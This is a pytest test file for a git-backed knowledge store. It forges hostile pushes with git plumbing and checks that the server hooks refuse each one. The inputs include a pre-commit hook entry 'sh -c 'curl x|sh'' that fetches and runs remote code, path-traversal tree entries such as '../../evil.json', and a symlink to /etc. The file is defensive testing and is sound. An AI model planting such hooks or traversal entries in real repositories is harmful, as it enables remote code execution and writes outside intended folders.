"""Attacks on a shared store, as someone with push access would make them: each crafted
with git's own plumbing (``git hash-object --literally``, ``git commit-tree``) and
pushed for real into a bare store with the hooks installed. Each is refused with one
``gitkb:`` line naming the rule, and the server keeps none of the pushed objects."""

from __future__ import annotations

import json
import sqlite3
import subprocess
import threading
import time
from collections.abc import Callable

import pytest
from helpers import CONFORMANCE, example_files, forge_cache_row, git, kb, put_git_kb_on_path
from helpers.pushes import forge, has_object, push, record_edits
from helpers.servers import git_daemon, smart_http

from gitkb import record as rec
from gitkb.layout import BRANCH
from gitkb.store import Store
from gitkb.testing import synthetic
from gitkb.testing.traces import legacy_trace

# --------------------------------------------------------------------------- plumbing


def entries(repo, tree: str) -> list[tuple[str, bytes, str]]:
    """(mode, name, sha) of a tree's entries, as git stores them."""
    raw = subprocess.run(["git", "cat-file", "tree", tree], cwd=repo, capture_output=True,
                         check=True).stdout  # fmt: skip
    out, at = [], 0
    while at < len(raw):
        space, nul = raw.index(b" ", at), raw.index(b"\0", at)
        out.append((raw[at:space].decode(), raw[space + 1 : nul], raw[nul + 1 : nul + 21].hex()))
        at = nul + 21
    return out


def write_tree(repo, items: list[tuple[str, bytes, str]]) -> str:
    """A tree object of exactly ``items``, written with ``git hash-object --literally``
    (no check of names or modes), entries in git's order."""

    def key(item):
        return item[1] + (b"/" if item[0] == "40000" else b"")

    raw = b"".join(f"{m} ".encode() + n + b"\0" + bytes.fromhex(s)
                   for m, n, s in sorted(items, key=key))  # fmt: skip
    done = subprocess.run(["git", "hash-object", "-w", "--literally", "-t", "tree", "--stdin"],
                          cwd=repo, input=raw, capture_output=True, check=True)  # fmt: skip
    return done.stdout.decode().strip()


def blob(repo, data: bytes) -> str:
    done = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=repo, input=data,
                          capture_output=True, check=True)  # fmt: skip
    return done.stdout.decode().strip()


def put(repo, tree: str, path: list[bytes], entry: tuple[str, str] | None) -> str:
    """``tree`` with the entry at ``path`` set to (mode, sha), or removed (None)."""
    items = [e for e in entries(repo, tree) if e[1] != path[0]] if tree else []
    if len(path) == 1:
        if entry is not None:
            items.append((entry[0], path[0], entry[1]))
        return write_tree(repo, items)
    held = next((e[2] for e in entries(repo, tree) if e[1] == path[0]), None) if tree else None
    items.append(("40000", path[0], put(repo, held, path[1:], entry)))
    return write_tree(repo, items)


def commit_tree(store: Store, tree: str, action: str | None, name: str = "") -> str:
    """A commit of ``tree`` on main (``kb <action> <name>`` with its trailers; a plain
    message when ``action`` is None), moved there as a hand-made commit would be."""
    message = (
        f"kb {action} {name}\n\nKB-Action: {action}\nKB-Record: {name}\n"
        if action
        else (f"{name}\n")
    )
    tip = store.tip
    commit = git("commit-tree", tree, "-p", tip, cwd=store.location, input=message).stdout.strip()
    git("update-ref", BRANCH, commit, tip, cwd=store.location)
    return commit


def root_tree(store: Store) -> str:
    return git("rev-parse", f"{store.tip}^{{tree}}", cwd=store.location).stdout.strip()


def refused_by(done, server, commit: str, rule: str) -> str:
    """The push was refused in one ``gitkb:`` line naming ``rule``; nothing stayed."""
    output = done.stdout + done.stderr
    assert done.returncode != 0, output
    lines = [line for line in output.splitlines() if "gitkb: " in line]
    assert len(lines) == 1, output
    assert f": {rule}: " in lines[0], output
    assert not has_object(server, commit), "a refused push leaves no objects on the server"
    return lines[0]


INSERT = "insert"


def insert_trailers(record_id: str, action: str = INSERT) -> list:
    return [("KB-Action", action), ("KB-Record", record_id)]


# --------------------------------------------------------------------------- deletes


@pytest.mark.slow
def test_a_retract_that_deletes_the_record_is_refused(server, clone, held):
    path = rec.path_for(held)
    tree = put(clone.location, root_tree(clone), [p.encode() for p in path.split("/")], None)
    commit = commit_tree(clone, tree, "retract", held["id"])
    line = refused_by(push(clone), server, commit, "history")
    assert "the store has no delete" in line


@pytest.mark.slow
def test_an_import_that_removes_the_records_folder_is_refused(server, clone, held):
    tree = put(clone.location, root_tree(clone), [b"records"], None)
    commit = commit_tree(clone, tree, "import", "everything")
    refused_by(push(clone), server, commit, "history")


@pytest.mark.slow
@pytest.mark.parametrize("mode", ["120000", "160000"], ids=["symlink", "gitlink"])
def test_records_replaced_by_a_link_is_refused(server, clone, held, mode):
    target = blob(clone.location, b"/etc") if mode == "120000" else clone.tip
    tree = put(clone.location, root_tree(clone), [b"records"], (mode, target))
    commit = commit_tree(clone, tree, "import", "relink")
    output = push(clone)
    assert output.returncode != 0
    lines = [x for x in (output.stdout + output.stderr).splitlines() if "gitkb: " in x]
    assert any(": entries: records is a " in x for x in lines), lines
    assert not has_object(server, commit)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["gitkb.toml", ".gitattributes"])
def test_deleting_a_control_file_is_refused(server, clone, held, name):
    tree = put(clone.location, root_tree(clone), [name.encode()], None)
    commit = commit_tree(clone, tree, "upgrade", "gitkb-2")
    refused_by(push(clone), server, commit, "history")


# --------------------------------------------------------------------------- control files


@pytest.mark.slow
def test_a_rewritten_hook_config_is_refused(server, clone, held):
    evil = b"repos:\n  - repo: local\n    hooks:\n      - id: x\n        entry: sh -c 'curl x|sh'\n"
    tree = put(clone.location, root_tree(clone), [b".pre-commit-config.yaml"],
               ("100644", blob(clone.location, evil)))  # fmt: skip
    plain = commit_tree(clone, tree, None, "tidy hooks")
    line = refused_by(push(clone), server, plain, "trailers")
    assert "carries no KB-Action" in line
    git("update-ref", BRANCH, f"{plain}~1", cwd=clone.location)
    as_upgrade = commit_tree(clone, tree, "upgrade", "gitkb-2")
    line = refused_by(push(clone), server, as_upgrade, "control")
    assert ".pre-commit-config.yaml" in line


@pytest.mark.slow
def test_a_config_with_unknown_keys_is_refused(server, clone, held):
    config = b'[store]\nname = "x"\nformat = "gitkb-2"\nschema = "clean-1.3"\nhook = "sh"\n'
    tree = put(clone.location, root_tree(clone), [b"gitkb.toml"],
               ("100644", blob(clone.location, config)))  # fmt: skip
    commit = commit_tree(clone, tree, "config", "store")
    line = refused_by(push(clone), server, commit, "control")
    assert "hook" in line


# --------------------------------------------------------------------------- strict documents


@pytest.mark.parametrize(
    "mutation,needle",
    [
        (lambda text: text.replace('"goal": "', '"goal": "\\udc80', 1), "lone surrogate"),
        (lambda text: text.replace('"pct": ', '"pct": NaN, "was": ', 1), "NaN"),
        (lambda text: text.replace("{", '{"id": "twice",', 1), "duplicate key"),
        (
            lambda text: text.replace('"pct": ', '"pct": 1' + "0" * 400 + ', "was": ', 1),
            "does not fit a double",
        ),
    ],
    ids=["lone-surrogate", "nan", "duplicate-key", "huge-number"],
)
@pytest.mark.slow
def test_documents_that_are_not_strict_json_are_refused(server, clone, held, mutation, needle):
    record = synthetic.strategy(2)
    text = mutation(rec.dumps(record).decode())
    commit = forge(clone, {rec.path_for(record): text.encode()}, f"kb insert {record['id']}",
                   insert_trailers(record["id"]))  # fmt: skip
    line = refused_by(push(clone), server, commit, "strict")
    assert needle in line


@pytest.mark.slow
def test_a_record_over_the_size_limit_is_refused(server, clone, held):
    record = synthetic.strategy(3)
    record["payload"]["mechanism"] = "x" * (1 << 20)
    commit = forge(clone, record_edits({rec.path_for(record): record}),
                   f"kb insert {record['id']}", insert_trailers(record["id"]))  # fmt: skip
    line = refused_by(push(clone), server, commit, "strict")
    assert "over the limit" in line


@pytest.mark.slow
def test_a_feedback_line_with_a_number_no_double_holds_is_refused(server, clone, held):
    path = f"feedback/{held['id']}.jsonl"
    line = b'{"kind": "increment", "counts": {"applied_count": 1' + b"0" * 400 + b"}}\n"
    commit = forge(clone, {path: line}, f"kb feedback {held['id']}",
                   insert_trailers(held["id"], "feedback"))  # fmt: skip
    found = refused_by(push(clone), server, commit, "feedback")
    assert "does not fit a double" in found


@pytest.mark.slow
def test_a_ledger_line_of_an_unknown_kind_is_refused(server, clone, held):
    path = f"ledger/{held['id']}.jsonl"
    commit = forge(clone, {path: b'{"event": "promote", "score": 99}\n'},
                   f"kb attest {held['id']}", insert_trailers(held["id"], "attest"))  # fmt: skip
    refused_by(push(clone), server, commit, "ledger")


# --------------------------------------------------------------------------- entries


@pytest.mark.parametrize(
    "where",
    [
        [b"records", b".."],
        [b"records", b"../../x.json"],
        [b"records", b".git"],
        [b"records", b"strategy\x01"],
    ],
    ids=["dotdot", "dotdot-path", "dot-git", "control-byte"],
)
@pytest.mark.slow
def test_entries_that_leave_a_folder_are_refused(server, clone, held, where):
    data = blob(clone.location, rec.dumps(synthetic.strategy(4)))
    tree = put(clone.location, root_tree(clone), where, ("100644", data))
    commit = commit_tree(clone, tree, "import", "odd-names")
    refused_by(push(clone), server, commit, "entries")


@pytest.mark.slow
def test_an_empty_folder_named_dotdot_is_refused(server, clone, held):
    empty = write_tree(clone.location, [])
    tree = put(clone.location, root_tree(clone), [b"records", b".."], ("40000", empty))
    commit = commit_tree(clone, tree, "import", "nothing")
    refused_by(push(clone), server, commit, "entries")


@pytest.mark.slow
def test_an_executable_record_is_refused(server, clone, held):
    record = synthetic.strategy(5)
    data = blob(clone.location, rec.dumps(record))
    parts = [p.encode() for p in rec.path_for(record).split("/")]
    tree = put(clone.location, root_tree(clone), parts, ("100755", data))
    commit = commit_tree(clone, tree, "insert", record["id"])
    line = refused_by(push(clone), server, commit, "entries")
    assert "executable" in line


@pytest.mark.slow
def test_names_that_differ_in_case_only_are_refused(server, clone, held):
    data = blob(clone.location, b"# report\n")
    tree = put(clone.location, root_tree(clone), [b"reports", b"T", b"mine.md"], ("100644", data))
    commit_tree(clone, tree, "report", "T")
    assert push(clone).returncode == 0
    tree = put(clone.location, tree, [b"reports", b"t", b"mine.md"], ("100644", data))
    commit = commit_tree(clone, tree, "report", "t")
    line = refused_by(push(clone), server, commit, "entries")
    assert "case" in line


@pytest.mark.slow
def test_a_tree_naming_one_entry_twice_is_refused(server, clone, held):
    record = synthetic.strategy(6)
    parts = rec.path_for(record).split("/")
    folder = put(clone.location, None, [parts[-1].encode()],
                 ("100644", blob(clone.location, rec.dumps(record))))  # fmt: skip
    twice = entries(clone.location, folder) * 2
    doubled = write_tree(clone.location, twice)
    tree = put(clone.location, root_tree(clone), [p.encode() for p in parts[:-1]],
               ("40000", doubled))  # fmt: skip
    commit = commit_tree(clone, tree, "insert", record["id"])
    line = refused_by(push(clone), server, commit, "entries")
    assert "two entries" in line


# --------------------------------------------------------------------------- actions and fields


def raise_gain(record: dict) -> None:
    """The headline gain and its metric, raised together (the gates see nothing wrong)."""
    record["worth"]["gain"]["pct"] = record["worth"]["gain"]["metrics"][0]["delta_pct"] = 99.0


@pytest.mark.slow
def test_an_insert_over_an_existing_record_is_refused(server, clone, held):
    record = json.loads(rec.dumps(held))
    raise_gain(record)
    commit = forge(clone, record_edits({rec.path_for(record): record}), f"kb insert {held['id']}",
                   insert_trailers(held["id"]))  # fmt: skip
    line = refused_by(push(clone), server, commit, "history")
    assert "kb insert may not change" in line


@pytest.mark.slow
def test_a_confirm_may_not_touch_the_gain(server, clone, held):
    record = json.loads(rec.dumps(held))
    raise_gain(record)
    record["worth"]["track"]["counters"]["verified_effective"] += 1
    commit = forge(clone, record_edits({rec.path_for(record): record}),
                   f"kb confirm {held['id']}", insert_trailers(held["id"], "confirm"))  # fmt: skip
    line = refused_by(push(clone), server, commit, "fields")
    assert "it changes worth.gain" in line


@pytest.mark.slow
def test_an_unknown_action_word_is_refused(server, clone, held):
    record = synthetic.strategy(7)
    commit = forge(clone, record_edits({rec.path_for(record): record}), f"kb bogus {record['id']}",
                   insert_trailers(record["id"], "bogus"))  # fmt: skip
    refused_by(push(clone), server, commit, "actions")


# --------------------------------------------------------------------------- refs


@pytest.mark.slow
@pytest.mark.parametrize("ref", ["refs/heads/wip", "refs/tags/v1"])
def test_other_refs_are_refused(server, clone, held, ref):
    record = json.loads(rec.dumps(synthetic.strategy(8)))
    record["payload"]["mechanism"] = "see /home/alice/kernels/x.py"
    tip = clone.tip
    commit = forge(clone, record_edits({rec.path_for(record): record}),
                   f"kb insert {record['id']}", insert_trailers(record["id"]))  # fmt: skip
    git("update-ref", ref, commit, cwd=clone.location)
    git("update-ref", BRANCH, tip, cwd=clone.location)
    refused_by(push(clone, ref), server, commit, "refs")


# --------------------------------------------------------------------------- the cache


@pytest.mark.slow
def test_a_forged_server_cache_lets_no_duplicate_id_through(server, clone, held):
    cache = server / "gitkb-cache" / "index.sqlite3"
    with sqlite3.connect(cache) as db:
        db.execute("DELETE FROM records")
        db.execute("DELETE FROM files WHERE path LIKE 'records/%'")
    again = json.loads(rec.dumps(held))
    elsewhere = rec.path_for(held).replace("/strategy/", "/technique-card/", 1)
    commit = forge(clone, {elsewhere: rec.dumps(again)}, f"kb insert {held['id']}",
                   insert_trailers(held["id"]))  # fmt: skip
    output = push(clone)
    assert output.returncode != 0
    assert (
        f"{held['id']}: ids: id: already in the store at {rec.path_for(held)}" in output.stderr
    ), output.stderr
    assert not has_object(server, commit)


# --------------------------------------------------------------------------- the race


@pytest.mark.slow
def test_concurrent_pushes_never_leave_main_citing_an_unreached_trace(tmp_path, monkeypatch):
    """Push A moves main with the records mining made from a trace and creates its trace
    ref (a plain push: git moves main first, the trace ref next); push B
    creates the same trace ref with another history at the same time. Round after round,
    whatever lands, main never cites a trace commit that its trace ref does not reach."""

    from gitkb.mine.pipeline import mine

    put_git_kb_on_path(tmp_path, monkeypatch)
    trace = legacy_trace(tmp_path / "kernel_opt_001_softmax")
    ref = "refs/kb/traces/kernel_opt_001_softmax"
    landed = 0
    # Four rounds at least; more while none has landed main (a busy machine lets push B,
    # the lighter, win the trace ref round after round, and then the race under test never
    # ran). After four rounds started together, push B starts later and later, so the race
    # is run at offsets up to the whole of push A, and push A must land in some round.
    for n in range(12):
        if n >= 4 and landed:
            break
        server = tmp_path / f"server-{n}.git"
        Store.init(server, bare=True)
        assert kb("hooks", "install", "--server", str(server)).returncode == 0
        a, b = tmp_path / f"a-{n}", tmp_path / f"b-{n}"
        for work in (a, b):
            git("clone", "-q", f"file://{server}", str(work))
        mine(trace, store=Store.open(a))
        theirs = Store.open(b).repo.write_commit(None, {"kernel.py": b"theirs\n"}, "v0\n")
        git("update-ref", ref, theirs, cwd=b)
        results: dict = {}
        pushes = {
            "a": lambda a=a: git("push", "--porcelain", "origin", "main", ref, cwd=a, check=False),
            "b": lambda b=b, n=n: _after(
                0.0 if n < 4 else 0.05 * 2 ** (n - 4),
                lambda: git("push", "--porcelain", "origin", ref, cwd=b, check=False),
            ),
        }
        threads = [
            threading.Thread(target=lambda k=k, run=run, out=results: out.update({k: run()}))
            for k, run in pushes.items()
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        held = Store.open(server)
        cited = {
            rec.dig(held.read_record(e["id"]).data, "evidence", "raw", "git_commit")
            for e in held.view().entries()
        }
        cited.discard(None)
        trace_tip = held.repo.resolve(ref)
        for commit in cited:
            assert trace_tip and held.repo.is_ancestor(commit, trace_tip), (n, results)
        landed += bool(cited)
    assert landed, "no round landed main: the race was never run"


def _after(
    seconds: float, run: Callable[[], subprocess.CompletedProcess]
) -> subprocess.CompletedProcess:
    time.sleep(seconds)
    return run()


# --------------------------------------------------------------------------- writers


@pytest.mark.slow
def test_a_trace_ref_lock_left_by_a_killed_mine_is_recovered(tmp_path):
    """A SIGKILL while mine copies a trace leaves git's lock on the trace ref and the
    writer lock's pid behind; the next mine recovers both, as after any killed writer."""
    from gitkb.mine.pipeline import mine

    store = Store.init(tmp_path / "kb")
    trace = legacy_trace(tmp_path / "kernel_opt_001_softmax")
    dead = subprocess.Popen(["true"])
    dead.wait()
    (store.repo.git_dir / "gitkb-writer.lock").write_text(str(dead.pid))
    lock = store.repo.git_dir / "refs" / "kb" / "traces" / "kernel_opt_001_softmax.lock"
    lock.parent.mkdir(parents=True)
    lock.write_text("0" * 40 + "\n")
    mine(trace, store=store)
    assert not lock.exists()
    assert store.repo.resolve("refs/kb/traces/kernel_opt_001_softmax") is not None


@pytest.mark.slow
def test_every_writer_makes_history_the_rules_accept(tmp_path):
    """init, admit (insert, confirm, conflict), attest, retract, unretract, feedback, mine
    and a GPU-wiki import: `git kb validate --history` finds nothing; a forged commit is
    listed by its id."""

    from gitkb.importers.gpu_wiki import import_tree
    from gitkb.mine.pipeline import mine
    from gitkb.query.feedback import feedback
    from gitkb.warmstart.attest import attest
    from gitkb.warmstart.retract import retract, unretract

    store = Store.init(tmp_path / "kb")
    for path in example_files():
        store.admit(path.read_bytes(), "insert", source=str(path))
    first = synthetic.strategy(1)
    store.admit(rec.dumps(first), "insert")
    twin = synthetic.strategy(1)
    twin["id"] = twin["id"].replace("s00001", "s00901")
    store.admit(rec.dumps(twin), "confirm", target=first["id"])
    against = json.loads(rec.dumps(twin))
    against["id"] = against["id"].replace("s00901", "s00902")
    against["worth"]["gain"]["pct"] = against["worth"]["gain"]["metrics"][0]["delta_pct"] = -5.0
    store.admit(rec.dumps(against), "conflict", target=first["id"])
    attest(store, first["id"], "validated")
    retract(store, first["id"], "superseded")
    unretract(store, first["id"], "not superseded after all")
    feedback(store, first["id"], "helped")
    mine(legacy_trace(tmp_path / "kernel_opt_001_softmax"), store=store)
    if CONFORMANCE.is_dir():
        import_tree(store, CONFORMANCE)
    done = kb("validate", "--history", str(store.location))
    assert done.returncode == 0, done.stdout.decode() + done.stderr.decode()

    record = synthetic.strategy(3)
    text = rec.dumps(record).decode().replace('"goal": "', '"goal": "\\udc80', 1)
    commit = forge(store, {rec.path_for(record): text.encode()}, f"kb insert {record['id']}",
                   insert_trailers(record["id"]))  # fmt: skip
    done = kb("validate", "--history", str(store.location))
    assert done.returncode == 1
    assert f"{commit[:12]} {record['id']}: strict: " in done.stdout.decode()


# --------------------------------------------------------------------------- other transports


@pytest.mark.slow
@pytest.mark.parametrize("transport", ["git-daemon", "smart-http"])
def test_attacks_are_refused_over_git_daemon_and_smart_http(server, clone, held, tmp_path,
                                                            transport):  # fmt: skip
    git("config", "http.receivepack", "true", cwd=server)
    serve = git_daemon(tmp_path) if transport == "git-daemon" else smart_http(tmp_path, tmp_path)
    tip = clone.tip
    path = [p.encode() for p in rec.path_for(held).split("/")]
    record = synthetic.strategy(2)
    surrogate = rec.dumps(record).decode().replace('"goal": "', '"goal": "\\udc80', 1)
    attacks = [
        (
            lambda: commit_tree(
                clone, put(clone.location, root_tree(clone), path, None), "retract", held["id"]
            ),
            "history",
        ),
        (
            lambda: forge(
                clone,
                {rec.path_for(record): surrogate.encode()},
                f"kb insert {record['id']}",
                insert_trailers(record["id"]),
            ),
            "strict",
        ),
        (
            lambda: commit_tree(
                clone,
                put(
                    clone.location,
                    root_tree(clone),
                    [b"records", b".."],
                    ("100644", blob(clone.location, b"{}")),
                ),
                "import",
                "x",
            ),
            "entries",
        ),
        (
            lambda: forge(
                clone,
                record_edits({rec.path_for(record): record}),
                f"kb bogus {record['id']}",
                insert_trailers(record["id"], "bogus"),
            ),
            "actions",
        ),
    ]
    with serve as base:
        for make, rule in attacks:
            commit = make()
            refused_by(push(clone, url=f"{base}/server.git"), server, commit, rule)
            git("update-ref", BRANCH, tip, cwd=clone.location)


# --------------------------------------------------------------------------- readers


@pytest.mark.slow
def test_readers_survive_bad_objects_already_in_history(tmp_path, monkeypatch):
    """A store that took a lone-surrogate record, a feedback line no double holds and an
    entry named ``../../evil.json`` before these rules: every reader skips them, the
    server takes the next good push, and export writes nothing outside its folder."""

    put_git_kb_on_path(tmp_path, monkeypatch)
    server_dir = tmp_path / "server.git"
    Store.init(server_dir, bare=True)
    git("clone", "-q", f"file://{server_dir}", str(tmp_path / "work"))
    store = Store.open(tmp_path / "work")
    good = synthetic.strategy(1)
    store.admit(rec.dumps(good), "insert")
    bad = synthetic.strategy(2)
    surrogate = rec.dumps(bad).decode().replace('"goal": "', '"goal": "\\udc80', 1).encode()
    huge = b'{"kind": "increment", "key": "k", "outcome": "helped", "counts": ' \
           b'{"applied_count": 1' + b"0" * 400 + b"}}\n"  # fmt: skip
    forge(store, {rec.path_for(bad): surrogate, f"feedback/{good['id']}.jsonl": huge},
          f"kb insert {bad['id']}", insert_trailers(bad["id"]))  # fmt: skip
    escape = put(store.location, root_tree(store), [b"records", b"../../evil.json"],
                 ("100644", blob(store.location, rec.dumps(synthetic.strategy(3)))))  # fmt: skip
    commit_tree(store, escape, "import", "escape")
    assert push(store).returncode == 0  # no hook yet: history from before the rules
    assert kb("hooks", "install", "--server", str(server_dir)).returncode == 0

    where = ["--store", str(store.location)]
    for args in (["list"], ["list", "--json"], ["query", "softmax", "--json"],
                 ["show", good["id"]], ["log"]):  # fmt: skip
        done = kb(*args, *where)
        assert done.returncode == 0, (args, done.stderr.decode())
        assert b"Traceback" not in done.stderr and b"internal error" not in done.stderr
    done = kb("validate", str(store.location))
    assert b"lone surrogate" in done.stdout and b"internal error" not in done.stderr
    out = tmp_path / "export" / "inner"
    done = kb("export", "gpu-wiki", str(out), *where)
    assert done.returncode == 0, done.stderr.decode()
    assert b"not exported" in done.stderr
    assert (
        not (tmp_path / "export" / "evil.json").exists() and not (tmp_path / "evil.json").exists()
    )

    next_one = synthetic.strategy(4)
    assert kb("admit", "-", *where, input=rec.dumps(next_one)).returncode == 0
    done = push(store)
    assert done.returncode == 0, done.stdout + done.stderr


def test_a_forged_row_in_a_clone_cache_is_not_served(tmp_path):
    """A row naming a record main does not hold (its bytes matching its blob id, so the
    cache's own checks pass) is not shown: the tree is asked first."""

    store = Store.init(tmp_path / "kb")
    store.admit(rec.dumps(synthetic.strategy(1)), "insert")
    assert kb("list", "--store", str(store.location)).returncode == 0  # the cache is built
    ghost = synthetic.strategy(2)
    raw, path = rec.dumps(ghost), rec.path_for(ghost)
    with sqlite3.connect(store.git_dir / "gitkb-cache" / "index.sqlite3") as db:
        forge_cache_row(db, path, raw)
    done = kb("show", ghost["id"], "--store", str(store.location))
    assert done.returncode == 1 and f"no record {ghost['id']!r}".encode() in done.stderr


@pytest.mark.slow
def test_a_ledger_for_a_record_the_store_lacks_is_refused(server, clone, held):
    ghost = "nvidia.h100.triton.softmax.never-admitted-s01"
    line = b'{"event": "attest", "outcome": "validated", "by": "x"}\n'
    commit = forge(clone, {f"ledger/{ghost}.jsonl": line}, f"kb attest {ghost}",
                   insert_trailers(ghost, "attest"))  # fmt: skip
    found = refused_by(push(clone), server, commit, "ledger")
    assert "does not hold" in found


@pytest.mark.slow
@pytest.mark.parametrize(
    "leak",
    ["profiled under /home/jdoe/ncu/run3", "ask jane.doe@example.com"],
    ids=["home", "email"],
)
def test_a_report_holding_private_text_is_refused(server, clone, held, leak):
    label = "kernel_opt_001_softmax"
    report = f"# Mining report\n\n{leak}\n".encode()
    tip = clone.tip
    commit = forge(clone, {f"reports/{label}/mine.md": report}, f"kb report {label}",
                   insert_trailers(label, "report"))  # fmt: skip
    found = refused_by(push(clone), server, commit, "anonymization")
    assert f"reports/{label}/mine.md" in found
    clone.repo.update_ref(BRANCH, commit, tip)  # the same report, scrubbed
    clean = forge(clone, {f"reports/{label}/mine.md": b"# Mining report\n\nREPORT.md: 2\n"},
                  f"kb report {label}", insert_trailers(label, "report"))  # fmt: skip
    assert push(clone).returncode == 0 and has_object(server, clean)
